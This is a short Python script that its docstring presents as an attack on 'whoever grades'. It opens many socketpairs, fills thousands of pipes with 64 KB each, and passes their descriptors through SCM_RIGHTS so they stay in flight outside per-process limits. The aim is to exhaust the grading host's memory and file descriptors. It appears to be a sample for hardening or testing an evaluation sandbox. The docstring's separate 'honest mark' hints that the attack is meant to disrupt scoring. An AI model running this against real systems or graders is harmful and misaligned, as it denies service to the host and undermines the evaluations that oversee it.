"""Attack: keeps pipes full of bytes in flight between sockets, where no limit of one process counts them.
Wants: memory and descriptors of whoever grades.
Honest mark: 22
"""


# %% own
import array
import os
import socket

held = []
try:
    while len(held) < 200:
        pair = socket.socketpair()
        held.append(pair)
        for _ in range(200):
            reading, writing = os.pipe()
            os.set_blocking(writing, False)
            try:
                os.write(writing, bytes(65536))
                pair[0].sendmsg([b" "], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [reading, writing]))])
            finally:
                os.close(reading)
                os.close(writing)
except OSError as refused:
    print(refused)
